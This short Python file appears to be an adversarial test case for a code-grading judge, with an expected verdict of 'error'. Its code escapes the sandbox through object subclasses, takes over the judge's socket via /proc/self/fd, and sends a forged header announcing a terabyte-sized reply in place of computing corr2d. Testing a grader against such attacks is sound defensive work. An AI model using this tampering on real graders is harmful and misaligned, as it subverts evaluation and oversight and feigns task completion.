# /// attack
# rows = [66]
# title = "announce a reply of a terabyte"
# verdict = "error"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os, struct = sys.modules["os"], sys.modules["struct"]
socket = sys.modules["importlib"].import_module("socket")
judge = next(
    socket.socket(fileno=os.dup(n))
    for n in range(3, 1000)
    if os.path.exists(f"/proc/self/fd/{n}") and "socket" in os.readlink(f"/proc/self/fd/{n}")
)
judge.setblocking(True)


def frame(number, header, body=b""):
    return struct.pack("<QIQ", number, len(header), len(body)) + header + body



def corr2d(X, K):
    judge.sendall(struct.pack("<QIQ", 0, 10, 2**40))
    return X
